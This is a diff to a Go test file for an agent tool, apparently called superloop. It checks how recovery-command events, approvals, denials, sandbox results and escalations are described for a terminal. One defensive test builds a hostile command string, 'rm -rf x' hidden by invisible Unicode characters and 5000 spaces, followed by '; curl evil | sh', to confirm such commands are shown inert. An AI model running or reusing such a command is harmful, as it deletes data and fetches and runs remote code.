@@ -86,46 +86,46 @@ var sentences = []struct {
 	{"role_end", `{"role":"tester","outcome":"ok","duration_ms":12000,"proposal":true}`, "tester done in 12s, with a proposal"},
 	{"tests_rerun_start", `{"mode":"every","commands":["make"],"reason":"recovery"}`, "tests start (make), again: does the recovery help?"},
 	{"recovery_seen", `{"role":"tester","category":"dependency","command":"npm ci","verdict":"auto"}`,
-		"the tester, which still runs, is about to propose (dependency): npm ci (auto as it stands)"},
+		"the tester, which still runs, is about to propose (dependency): npm ci; it may run, if it stays so"},
 	{"recovery_proposed", `{"n":1,"source":"tester","role":"tester","category":"dependency","severity":"blocking","command":"npm ci","working_dir":".","confidence":"high","root_cause":"the lock file changed","verdict":"auto","rule":"auto_approve","reason":"it stands in auto_approve"}`,
-		"the tester proposes (dependency, high confidence): npm ci, since the lock file changed; it may run: it stands in auto_approve"},
+		"recovery 1, by the tester (dependency, high confidence): npm ci, since the lock file changed; it may run: it stands in auto_approve"},
 	{"recovery_proposed", `{"n":1,"source":"superloop","category":"config","command":"rm\nx","working_dir":"web","fallback":true,"verdict":"human","rule":"require_human","reason":"a pattern"}`,
-		"its fallback is judged: rm<newline>x (in web); a person decides: a pattern"},
-	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"auto","reason":"cooldown","not_before":"0001-01-01T00:00:00Z"}`, "the tester proposes: x; it may run: cooldown"},
-	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"deny"}`, "the tester proposes: x; it is denied"},
-	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"odd"}`, "the tester proposes: x; its verdict is odd"},
-	{"recovery_approved", `{"n":1,"source":"auto","by":"rule","rule":"auto_approve","command":"npm ci"}`, "approved by the rule auto_approve: npm ci"},
-	{"recovery_approved", `{"n":1,"source":"human","by":"ann","rule":"require_human","command":"npm ci"}`, "approved by ann: npm ci"},
+		"recovery 1, its fallback: rm<newline>x (in web); a person decides: a pattern"},
+	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"auto","reason":"cooldown","not_before":"0001-01-01T00:00:00Z"}`, "recovery 1, by the tester: x; it may run: cooldown"},
+	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"deny"}`, "recovery 1, by the tester: x; it is denied"},
+	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"odd"}`, "recovery 1, by the tester: x; its verdict is odd"},
+	{"recovery_approved", `{"n":1,"source":"auto","by":"rule","rule":"auto_approve","command":"npm ci"}`, "recovery 1 approved by the rule auto_approve"},
+	{"recovery_approved", `{"n":1,"source":"human","by":"ann","rule":"require_human","command":"npm ci"}`, "recovery 1 approved by ann: npm ci"},
 	{"recovery_executing", `{"n":1,"id":"x","source":"auto","command":"npm ci","working_dir":".","timeout_ms":300000,"network":"none","undo":"u1"}`,
-		"runs npm ci, for at most 5m00s, without the network; what it replaces is kept"},
+		"recovery 1 runs npm ci, for at most 5m00s, without the network; what it replaces is kept"},
 	{"recovery_executing", `{"n":1,"id":"x","command":"npm ci","timeout_ms":1000,"network":"full","undo":"u1","undo_note":"node_modules is not kept: too large"}`,
-		"runs npm ci, for at most 1.0s; node_modules is not kept: too large"},
+		"recovery 1 runs npm ci, for at most 1.0s; node_modules is not kept: too large"},
 	{"recovery_executed", `{"n":1,"id":"x","command":"npm ci","exit_code":0,"ended":"exited","duration_ms":700,"sandbox":{"level":"landlock+mount"},"left_behind":2,"appeared":[".git/hooks/x"]}`,
-		"npm ci: done in 0.7s; confined by landlock+mount; 2 processes that it left behind were ended; look at what appeared: .git/hooks/x"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":1,"ended":"exited","duration_ms":700,"sandbox":{"level":"none"}}`, "npm ci: exited with 1 after 0.7s; nothing confined it"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":-1,"ended":"exited","signal":"SIGSEGV","duration_ms":700}`, "npm ci: was ended by SIGSEGV after 0.7s"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":-1,"ended":"timed_out","duration_ms":120000}`, "npm ci: reached its time limit after 2m00s and was ended"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"output_limit","duration_ms":1000}`, "npm ci: printed too much and was ended after 1.0s"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"killed","duration_ms":1000}`, "npm ci: was ended after 1.0s, since superloop had to leave"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"not_started","error":"bash is not installed"}`, "npm ci: could not be started: bash is not installed"},
-	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"lost"}`, "npm ci: was lost: nobody knows how it ended"},
-	{"recovery_verified", `{"n":1,"result":"verified","before":"failed","after":"ok"}`, "verified: the failure is gone"},
-	{"recovery_verified", `{"n":1,"result":"ineffective","why":"make exits with 2 as before"}`, "ineffective: the failure is what it was: make exits with 2 as before"},
-	{"recovery_verified", `{"n":1,"result":"harmful"}`, "harmful: something that worked does not any more"},
-	{"recovery_verified", `{"n":1,"result":"unknown","why":"the loop has no tests"}`, "not verified: the loop has no tests"},
-	{"recovery_denied", `{"n":1,"command":"npm ci","rule":"on_unknown","reason":"no list names it"}`, "denied: npm ci; no list names it"},
+		"recovery 1 done in 0.7s; confined by landlock+mount; 2 processes that it left behind were ended; look at what appeared: .git/hooks/x"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":1,"ended":"exited","duration_ms":700,"sandbox":{"level":"none"}}`, "recovery 1 exited with 1 after 0.7s; nothing confined it"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":-1,"ended":"exited","signal":"SIGSEGV","duration_ms":700}`, "recovery 1 was ended by SIGSEGV after 0.7s"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":-1,"ended":"timed_out","duration_ms":120000}`, "recovery 1 reached its time limit after 2m00s and was ended"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"output_limit","duration_ms":1000}`, "recovery 1 printed too much and was ended after 1.0s"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"killed","duration_ms":1000}`, "recovery 1 was ended after 1.0s, since superloop had to leave"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"not_started","error":"bash is not installed"}`, "recovery 1 could not be started: bash is not installed"},
+	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"lost"}`, "recovery 1 was lost: nobody knows how it ended"},
+	{"recovery_verified", `{"n":1,"result":"verified","before":"failed","after":"ok"}`, "recovery 1 is verified, the failure is gone"},
+	{"recovery_verified", `{"n":1,"result":"ineffective","why":"make exits with 2 as before"}`, "recovery 1 is ineffective, the failure is what it was: make exits with 2 as before"},
+	{"recovery_verified", `{"n":1,"result":"harmful"}`, "recovery 1 is harmful, something that worked does not any more"},
+	{"recovery_verified", `{"n":1,"result":"unknown","why":"the loop has no tests"}`, "recovery 1 is not verified: the loop has no tests"},
+	{"recovery_denied", `{"n":1,"command":"npm ci","rule":"on_unknown","reason":"no list names it"}`, "recovery 1 denied: npm ci; no list names it"},
 	{"recovery_denied", `{"rule":"stale","reason":"it is of iteration 1"}`, "a proposal is set aside and not judged: it is of iteration 1"},
 	{"recovery_invalid", `{"role":"tester","problems":[{"pointer":"/recovery/command","line":3,"column":2,"message":"missing"},{"pointer":"","message":"b"}]}`,
 		"what the tester proposes is not usable: /recovery/command: missing (and 1 more)"},
 	{"recovery_invalid", `{"reason":"it is a link"}`, "the proposal is not usable: it is a link"},
 	{"recovery_escalated", `{"type":"recovery_approval_required","reason":"no list names it","rule":"on_unknown","awaiting":"human","escalation_id":"e","command":"npm ci","n":1}`,
-		"waiting for a person (recovery approval required): npm ci; no list names it; next: superloop status --loop one"},
+		"waiting for a person (recovery approval required): npm ci; no list names it; when it is mended: superloop kick --loop one"},
 	{"recovery_resolved", `{"escalation_id":"e","by":"ann","method":"approve"}`, "approved by ann"},
 	{"recovery_resolved", `{"escalation_id":"e","by":"ann","method":"reject","note":"not on this machine"}`, "rejected by ann: not on this machine"},
 	{"config_reloaded", `{"changes":[{"path":"/a","from":1,"to":2},{"path":"/b"},{"path":"/c"},{"path":"/d"},{"path":"/e"}],"digest":"d","during":"tester"}`,
 		"the configuration was read again, while the tester ran: /a, /b, /c, /d and 1 more"},
 	{"config_loaded", `{"file":".superloop/config.json","digest":"d","protection":"none","protection_notes":["x"],"warnings":[{"pointer":"/recovery/auto_approve/0","code":"c","message":"overlap"},{"message":"b"}]}`,
-		"configuration .superloop/config.json; nothing keeps the agents from it; warning: /recovery/auto_approve/0: overlap (and 1 more)"},
+		"configuration .superloop/config.json; nothing keeps the agents from it; 2 warnings"},
 	{"config_loaded", `{"file":"c.json","protection":"mount"}`, "configuration c.json; it is kept from the agents by mount"},
 	{"config_warning", `{"problems":[{"pointer":"","message":"the pin is damaged"}]}`, "the configuration: the pin is damaged"},
 	{"config_rejected", `{"problems":[{"pointer":"/loops","message":"missing"}]}`, "the changed configuration is not taken, what was in force stays: /loops: missing"},
@@ -278,7 +278,7 @@ func TestDescribeIsSafeForATerminal(t *testing.T) {
 // missing visibly.
 func TestDescribeShowsCommandsInert(t *testing.T) {
 	t.Parallel()
-	fields, err := json.Marshal(map[string]any{"command": "rm -rf x\u202e\u200b  \u00a0" + strings.Repeat(" ", 5000) + "; curl evil | sh", "source": "auto", "rule": "auto_approve"})
+	fields, err := json.Marshal(map[string]any{"command": "rm -rf x\u202e\u200b  \u00a0" + strings.Repeat(" ", 5000) + "; curl evil | sh", "source": "human", "by": "ann"})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -288,7 +288,7 @@ func TestDescribeShowsCommandsInert(t *testing.T) {
 			t.Errorf("there is no %s in %q", want, got)
 		}
 	}
-	long := Describe(eventOf("recovery_approved", `{"source":"auto","rule":"x","command":"`+strings.Repeat("true; ", 200)+`"}`))
+	long := Describe(eventOf("recovery_approved", `{"source":"human","by":"ann","command":"`+strings.Repeat("true; ", 200)+`"}`))
 	if !strings.HasSuffix(long, "...") || len(long) > 220 {
 		t.Errorf("a long command is %q", long)
 	}
